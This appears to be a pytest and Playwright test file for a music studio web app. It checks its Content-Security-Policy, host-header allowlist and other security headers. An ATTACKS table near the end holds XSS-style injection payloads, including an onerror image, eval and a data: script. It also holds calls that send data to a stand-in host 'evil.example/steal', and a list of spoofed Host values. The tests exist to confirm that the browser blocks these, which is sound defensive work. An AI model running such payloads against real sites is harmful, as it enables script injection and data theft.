"""The headers that keep strangers out of a page, and what a real browser makes of them on every page."""

import asyncio
import base64
import hashlib
import http.client
import json
import re
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect
from starlette.applications import Starlette
from starlette.responses import PlainTextResponse
from starlette.routing import Route, WebSocketRoute
from starlette.websockets import WebSocket

from configs.settings import StoreSettings, load
from serving.api.hosts import KnownHosts, known_hosts
from studio.words.account import Account
from ui.headers import SafeHeaders, inline_scripts_of, page_policy, streamlit_page
from ui.widgets import map as pages_map

WATCH = """
window.__refused = [];
document.addEventListener("securitypolicyviolation", e =>
    window.__refused.push(`${e.effectiveDirective} ${e.blockedURI}`));
"""
KNOWN_REFUSALS = {"script-src wasm-eval"}
"""The protobuf library tries WebAssembly for its long numbers and goes on without it."""


def directives(policy: str) -> dict[str, set[str]]:
    return {words[0]: set(words[1:]) for part in policy.split(";") if (words := part.split())}


def policy_of(**store: object) -> dict[str, set[str]]:
    settings = load(var=Path("var"), store=StoreSettings(**store))  # type: ignore[arg-type]
    return directives(page_policy(settings, inline_scripts=inline_scripts_of(streamlit_page())))


def test_the_policy_lets_in_our_own_and_nothing_else() -> None:
    policy = policy_of()
    everything = set().union(*policy.values())
    assert not {"*", "http:", "https:", "'unsafe-eval'", "'wasm-unsafe-eval'"} & everything
    assert "'unsafe-inline'" not in policy["script-src"]
    assert "blob:" not in policy["script-src"] | policy["connect-src"]
    assert "data:" not in policy["script-src"]
    assert policy["object-src"] == policy["base-uri"] == {"'none'"}
    assert policy["default-src"] == policy["frame-ancestors"] == policy["form-action"] == {"'self'"}
    assert not any("://" in source for source in everything)


def test_the_hashes_are_those_of_streamlits_own_scripts() -> None:
    scripts = re.findall(r"<script>(.*?)</script>", streamlit_page(), re.DOTALL)
    assert scripts
    hashes = {base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() for script in scripts}
    assert policy_of()["script-src"] == {"'self'"} | {f"'sha256-{digest}'" for digest in hashes}


@pytest.mark.parametrize(
    ("store", "origin"),
    [
        ({"endpoint_url": "http://minio:9000/"}, "http://minio:9000"),
        ({"endpoint_url": "https://s3.eu-central-003.example.com"}, "https://s3.eu-central-003.example.com"),
        ({"region": "eu-central-1", "bucket": "songs"}, "https://songs.s3.eu-central-1.amazonaws.com"),
    ],
)
def test_sound_and_pictures_may_come_from_the_store(store: dict[str, str], origin: str) -> None:
    policy = policy_of(kind="s3", **store)
    for directive in ("img-src", "media-src", "connect-src"):
        assert origin in policy[directive]
    assert origin not in policy["script-src"] | policy["style-src"] | policy["font-src"]


async def _ask(app: object, kind: str, headers: list[tuple[bytes, bytes]], path: str = "/") -> list[dict]:
    scope = {"type": kind, "method": "GET", "path": path, "query_string": b"", "headers": headers, "subprotocols": []}
    told: list[dict] = []

    async def receive() -> dict:
        return {"type": "websocket.connect"} if kind == "websocket" else {"type": "http.request", "body": b""}

    async def send(message: dict) -> None:
        told.append(message)

    await app(scope, receive, send)  # type: ignore[operator]
    return told


def _behind_hosts(*names: str) -> KnownHosts:
    async def here(_: object) -> PlainTextResponse:
        return PlainTextResponse("in")

    async def socket(websocket: WebSocket) -> None:
        await websocket.accept()

    return KnownHosts(Starlette(routes=[Route("/", here), WebSocketRoute("/", socket)]), names)


@pytest.mark.parametrize(
    "host",
    ["studio.example.org", "STUDIO.example.org:8600", "studio.example.org.", "a.wild.example", "localhost:8600", "web",
     "127.0.0.1:8600", "10.0.0.7", "[::1]:8600"],
)  # fmt: skip
def test_a_known_name_is_let_in(host: str) -> None:
    app = _behind_hosts("studio.example.org", "*.wild.example")
    headers = [(b"host", host.encode())]
    assert asyncio.run(_ask(app, "http", headers))[0]["status"] == 200
    assert asyncio.run(_ask(app, "websocket", headers))[0]["type"] == "websocket.accept"


@pytest.mark.parametrize(
    "hosts",
    [["evil.example"], ["studio.example.org.evil.example"], ["evil.example:8600"], ["wild.example"], ["awild.example"],
     ["127.0.0.1.evil.example"], ["studio.example.org@evil.example"], [""], [], ["localhost", "evil.example"],
     ["[::1"], ["evil.example\\studio.example.org"], ["\xff.example"], ["127.1.evil.example"]],
)  # fmt: skip
def test_any_other_name_is_refused(hosts: list[str]) -> None:
    app = _behind_hosts("studio.example.org", "*.wild.example")
    headers = [(b"host", host.encode("latin-1")) for host in hosts]
    assert asyncio.run(_ask(app, "http", headers))[0]["status"] == 400
    assert asyncio.run(_ask(app, "websocket", headers)) == [{"type": "websocket.close", "code": 1008}]


def test_the_public_name_is_known(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MELODEON_WEB__PUBLIC_URL", "https://studio.example.org:8443/")
    monkeypatch.setenv("MELODEON_WEB__ALLOWED_HOSTS", '["other.example"]')
    assert set(known_hosts(load(var=Path("var")))) == {"studio.example.org", "other.example"}


@pytest.mark.parametrize("https", [True, False])
def test_only_https_is_told_to_stay_https(https: bool) -> None:
    app = SafeHeaders(_behind_hosts(), page_policy="default-src 'self'", https=https)
    headers = dict(asyncio.run(_ask(app, "http", [(b"host", b"localhost")]))[0]["headers"])
    assert (b"strict-transport-security" in headers) == https


# --- the running product -------------------------------------------------------------------------------------------


def head_of(url: str, path: str, host: str) -> http.client.HTTPResponse:
    connection = http.client.HTTPConnection(url.removeprefix("http://"), timeout=60)
    connection.request("GET", path, headers={"Host": host})
    answer = connection.getresponse()
    answer.read()
    connection.close()
    return answer


@pytest.mark.parametrize("path", ["/", "/library", "/api/v1/discover", "/_stcore/health", "/static/nothing.js"])
def test_every_answer_carries_the_headers(site, path: str) -> None:
    headers = head_of(site.url, path, "localhost").headers
    policy = directives(headers["content-security-policy"])
    assert policy["frame-ancestors"] <= {"'self'", "'none'"}
    if path.startswith("/api/"):
        assert policy["default-src"] == {"'none'"}
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["cross-origin-opener-policy"] == "same-origin"
    assert headers["referrer-policy"] == "same-origin"
    assert "camera=()" in headers["permissions-policy"]
    assert headers.get_all("content-security-policy") == [headers["content-security-policy"]]


@pytest.mark.parametrize("path", ["/", "/library", "/api/v1/discover", "/_stcore/health", "/_stcore/stream"])
def test_a_wrong_name_gets_nothing(site, path: str) -> None:
    assert head_of(site.url, path, "evil.example").status == 400


def test_streamlits_door_for_programs_is_shut(site) -> None:
    assert head_of(site.url, "/_stcore/agent/interact", "localhost").status in (403, 404, 405)


@pytest.fixture(scope="module")
def admin(site) -> Account:
    """The first account, whose menu has everything, and its published song."""
    account = site.account("admin")
    site.song(account, title="Harbour")
    return account


@pytest.fixture
def admins_page(admin: Account, open_browser) -> Page:
    """A page of the admin that notes what its policy refuses."""
    page = open_browser(admin).new_page()
    page.add_init_script(WATCH)
    return page


def refused(page: Page) -> set[str]:
    return set(page.evaluate("window.__refused")) - KNOWN_REFUSALS


def test_no_page_needs_what_the_policy_refuses(site, admins_page: Page) -> None:
    found = {}
    for path in Path(pages_map.DISCOVER).parent.glob("[!_]*.py"):
        admins_page.goto(f"{site.url}/{'' if path.stem == 'discover' else path.stem.replace('_', '-')}")
        expect(admins_page.get_by_test_id("stSidebar")).to_be_visible(timeout=60_000)
        expect(admins_page.get_by_role("heading").first).to_be_visible(timeout=60_000)
        admins_page.wait_for_timeout(500)
        if there := refused(admins_page):
            found[path.stem] = there
    assert found == {}


def test_music_plays_and_covers_show_under_the_policy(site, admins_page: Page, until) -> None:
    admins_page.goto(site.url)
    admins_page.get_by_role("button", name="Play Harbour").first.click()
    until(admins_page, "window.__melodeon && window.__melodeon.audio.currentTime > 0.2")
    until(
        admins_page,
        "[...document.querySelectorAll('*')].some(e => e.shadowRoot"
        " && [...e.shadowRoot.querySelectorAll('img')].some(i => i.naturalWidth > 0))",
    )
    assert refused(admins_page) == set()


ATTACKS = {
    "script-src-elem inline": "const s = document.createElement('script'); s.textContent = 'window.__ran = 1';"
    "document.body.append(s)",
    "script-src-attr inline": "document.body.insertAdjacentHTML('beforeend', "
    "'<img src=x onerror=\"window.__ran = 1\">')",
    "script-src-elem data": "const s = document.createElement('script'); s.src = 'data:text/javascript,window.__ran=1';"
    "document.body.append(s)",
    "script-src eval": "try { eval('window.__ran = 1') } catch {}",
    "img-src http://evil.example/steal": "new Image().src = 'http://evil.example/steal'",
    "connect-src http://evil.example/steal": "fetch('http://evil.example/steal').catch(() => 0)",
    "base-uri http://evil.example/": "const b = document.createElement('base'); b.href = 'http://evil.example/';"
    "document.head.append(b)",
    "object-src ": "const o = document.createElement('object'); o.data = '/api/v1/health'; document.body.append(o)",
    "frame-src http://evil.example": "const f = document.createElement('iframe'); f.src = 'http://evil.example/';"
    "document.body.append(f)",
}


def test_what_got_in_all_the_same_can_do_nothing(site, admins_page: Page, until) -> None:
    admins_page.goto(site.url)
    expect(admins_page.get_by_test_id("stSidebar")).to_be_visible(timeout=60_000)
    for attack in ATTACKS.values():
        # By the page's own timer, because what playwright evaluates stands above the policy.
        admins_page.evaluate(f"new Promise(done => setTimeout(() => {{ {attack}; done() }}))")
    rules = json.dumps(list(ATTACKS))
    until(admins_page, f"{rules}.every(rule => window.__refused.some(line => line.startsWith(rule)))")
    assert admins_page.evaluate("window.__ran") is None
